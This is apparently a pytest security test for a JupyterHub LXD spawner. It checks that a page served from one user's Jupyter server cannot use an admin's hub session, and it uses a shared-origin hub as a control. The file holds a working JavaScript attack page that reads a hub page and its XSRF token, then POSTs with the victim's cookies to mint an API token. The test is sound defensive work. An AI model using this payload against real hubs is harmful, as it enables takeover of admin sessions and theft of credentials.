"""A page served from one user's server cannot act with another user's hub session.

Mallory is root in her container, so she controls everything her Jupyter serves
under /user/mallory/.  Here she reconfigures it (a system-wide Jupyter config in
her container) to serve her own HTML without Jupyter's sandboxing CSP, and
the page tries, with the session of carol (an admin) who opens it in a real
browser, to read a hub page and to make an API token for her.

- shipped configuration (mallory's server on mallory.lxcgpu.localhost, the hub on
  lxcgpu.localhost, HTTPS, __Host- cookies): both fail, no token is made;
- the old configuration (one shared origin, a second hub): both succeed and
  the token works as carol, which shows the attack page really attacks.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import shutil
import time

import pytest

from lxcspawner import naming
from tests.fixtures.browser import artifacts, browser  # noqa: F401  (fixtures)
from tests.fixtures.hub import (
    LXCGPU_TOML, TEST_SERVICE, _delete_run_containers, _ldap_settings, launch_hub,
)
from tests.fixtures.lxd import TEST_KEY

pytestmark = [pytest.mark.lxd, pytest.mark.ldap]

ATTACKER = "mallory"  # a hub user of this test's own (made through the API)
VICTIM = "carol"  # in gpu-admins
SERVER = "node1"  # the test hubs' only GPU server
PAGES = "/srv/mallory-pages"
NOTE = "made by mallory's page"

# Bob's own Jupyter config: /files/ served by a plain static handler, without
# the "sandbox allow-scripts" CSP Jupyter puts on user files.
JUPYTER_CONFIG = {"ContentsManager": {
    "files_handler_class": "tornado.web.StaticFileHandler",
    "files_handler_params": {"path": PAGES},
}}

# The attack, started by the victim's click on mallory's page: open a hub page in
# a window and read it (and the XSRF token the hub embeds in it; hub pages
# refuse to be framed), then POST a new token for the victim with it.
ATTACK_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>mallory's notes</title></head><body>
<p>My results: <a id="go" href="#">see the plots</a></p>
<script>
const HUB = %(hub)s, VICTIM = %(victim)s, NOTE = %(note)s;
const result = {read: false, title: null, status: null, token: null, errors: []};
const pause = ms => new Promise(resolve => setTimeout(resolve, ms));
async function attack() {
  let xsrf = "";
  const w = window.open(HUB + "/hub/token", "hub");
  try {
    for (let i = 0; i < 50; i++) {
      await pause(100);
      try {
        if (w.jhdata && w.document.readyState === "complete") break;
      } catch (e) { /* another origin: never readable */ }
    }
    result.read = w.document.documentElement.outerHTML.includes(VICTIM);
    result.title = w.document.title;
    xsrf = w.jhdata.xsrf_token;
  } catch (e) { result.errors.push("read: " + e); }
  try { w.close(); } catch (e) { /* gone */ }
  try {
    const r = await fetch(HUB + "/hub/api/users/" + VICTIM + "/tokens", {
      method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json", "X-XSRFToken": xsrf},
      body: JSON.stringify({note: NOTE, expires_in: 600}),
    });
    result.status = r.status;
    result.token = (await r.json()).token || null;
  } catch (e) { result.errors.push("token: " + e); }
  try {
    // A "simple" request (no CORS preflight) with the victim's cookies.
    await fetch(HUB + "/hub/api/users/" + VICTIM + "/tokens", {
      method: "POST", credentials: "include", mode: "no-cors",
      headers: {"Content-Type": "text/plain"},
      body: JSON.stringify({note: NOTE, expires_in: 600}),
    });
  } catch (e) { result.errors.push("simple: " + e); }
  window.attackResult = result;
}
document.getElementById("go").addEventListener("click", e => { e.preventDefault(); attack(); });
</script></body></html>
"""


def wait_server(hub, user: str, ready: bool, timeout: float = 180) -> None:
    deadline = time.monotonic() + timeout
    while True:
        server = hub.api("GET", f"/users/{user}").json().get("servers", {}).get("")
        if (bool(server and server.get("ready")) if ready else server is None):
            return
        assert time.monotonic() < deadline, f"{user}: server ready={ready} not reached\n" \
            f"{hub.log_tail(3000)}"
        time.sleep(0.2)


async def serve_mallorys_page(hub, lxd) -> str:
    """Mallory's server serving her attack page; its URL."""
    hub.api("POST", f"/users/{ATTACKER}")  # 201, or 409 if the hub knows him
    if "" not in hub.api("GET", f"/users/{ATTACKER}").json().get("servers", {}):
        r = hub.api("POST", f"/users/{ATTACKER}/server")
        assert r.status_code in (201, 202), r.text
    await asyncio.to_thread(wait_server, hub, ATTACKER, True)

    # What mallory, root in her container, can do.
    instance = naming.instance_name(ATTACKER, SERVER, hub.run_tag)
    page = ATTACK_PAGE % {
        "hub": json.dumps("" if not hub.subdomains else hub.url),
        "victim": json.dumps(VICTIM), "note": json.dumps(NOTE)}
    await lxd.make_dir(instance, PAGES)
    await lxd.put_file(instance, f"{PAGES}/notes.html", page)
    await lxd.make_dir(instance, "/etc/jupyter")
    await lxd.put_file(instance, "/etc/jupyter/jupyter_server_config.json",
                       json.dumps(JUPYTER_CONFIG))
    # Restart her Jupyter (the container keeps running) so that it reads it.
    assert hub.api("DELETE", f"/users/{ATTACKER}/server").status_code in (202, 204)
    await asyncio.to_thread(wait_server, hub, ATTACKER, False)
    assert hub.api("POST", f"/users/{ATTACKER}/server").status_code in (201, 202)
    await asyncio.to_thread(wait_server, hub, ATTACKER, True)

    url = hub.user_url(ATTACKER) + "files/notes.html"
    with hub.session() as s:
        r = s.get(url, timeout=30, allow_redirects=False)
    assert r.status_code == 200 and "mallory's notes" in r.text, (r.status_code, r.text[:300])
    assert "sandbox" not in r.headers.get("Content-Security-Policy", "")
    return url


async def open_as_victim(browser, hub, ldap_directory, url: str, shot) -> dict:  # noqa: F811
    """Carol logs in to the hub, then opens ``url``; what the page managed."""
    context = await browser.new_context(ignore_https_errors=True)
    page = await context.new_page()
    try:
        await page.goto(f"{hub.url}/hub/login?next=%2Fhub%2Fhome")
        await page.fill("#username_input", VICTIM)
        await page.fill("#password_input", ldap_directory.passwords[VICTIM])
        await page.click("#login_submit")
        await page.wait_for_url("**/hub/home", timeout=30_000)
        await page.goto(url)
        await page.click("#go")
        await page.wait_for_function("window.attackResult !== undefined", timeout=30_000)
        result = await page.evaluate("window.attackResult")
        await page.screenshot(path=shot)
        return result
    finally:
        await context.close()


def tokens_made_by_the_page(hub) -> list[dict]:
    r = hub.api("GET", f"/users/{VICTIM}/tokens")
    assert r.status_code == 200, r.text
    return [t for t in r.json()["api_tokens"] if t.get("note") == NOTE]


def whoami(hub, token: str) -> dict:
    with hub.session() as s:
        return s.get(hub.api_url + "/user", headers={"Authorization": f"token {token}"},
                     timeout=30).json()


@pytest.fixture(scope="module")
def shared_hub(request, ldap_directory, run_tag, tmp_path_factory):
    """A second hub with the old configuration: every server on the hub's origin."""
    tag = f"{run_tag}s"
    root = tmp_path_factory.mktemp("lxcgpu-shared-hub")
    toml = LXCGPU_TOML.format(store=root / "lxcgpu.sqlite", run_tag=tag).replace(
        "first_id_block = 14800", "first_id_block = 14900")
    instance = launch_hub(root, toml, ldap_settings=_ldap_settings(ldap_directory),
                          admin_group=ldap_directory.admins_group_dn, tag_key=TEST_KEY,
                          tag=tag, service=TEST_SERVICE, origins="shared")
    try:
        instance.start()
        yield instance
    finally:
        with contextlib.suppress(Exception):
            instance.api("DELETE", f"/users/{ATTACKER}/server")
        instance.stop()
        shutil.rmtree(instance.proxy_dir, ignore_errors=True)
        asyncio.run(_delete_run_containers(tag))
        if request.session.testsfailed:
            print(f"\n===== shared-origin hub log (tail) =====\n{instance.log_tail()}")


async def test_page_on_a_users_origin_cannot_use_an_admins_session(
        hub, lxd, browser, ldap_directory, artifacts, logs_on_failure):  # noqa: F811
    logs_on_failure.append(naming.instance_name(ATTACKER, SERVER, hub.run_tag))
    url = await serve_mallorys_page(hub, lxd)
    assert url.startswith(f"https://{ATTACKER}.lxcgpu.localhost:"), url
    try:
        result = await open_as_victim(browser, hub, ldap_directory, url,
                                      artifacts / "origins-own.png")
        assert result["read"] is False and result["title"] is None, result
        assert result["token"] is None, result
        assert tokens_made_by_the_page(hub) == []
    finally:
        hub.api("DELETE", f"/users/{ATTACKER}/server")


async def test_same_page_on_a_shared_origin_takes_over_the_session(
        shared_hub, lxd, browser, ldap_directory, artifacts, logs_on_failure):  # noqa: F811
    """The control: without separate origins the very same page works."""
    logs_on_failure.append(naming.instance_name(ATTACKER, SERVER, shared_hub.run_tag))
    url = await serve_mallorys_page(shared_hub, lxd)
    assert url.startswith(f"{shared_hub.url}/user/{ATTACKER}/"), url
    result = await open_as_victim(browser, shared_hub, ldap_directory, url,
                                  artifacts / "origins-shared.png")
    assert result["read"] is True, result
    assert result["status"] == 201 and result["token"], result
    assert whoami(shared_hub, result["token"])["name"] == VICTIM
    assert tokens_made_by_the_page(shared_hub)
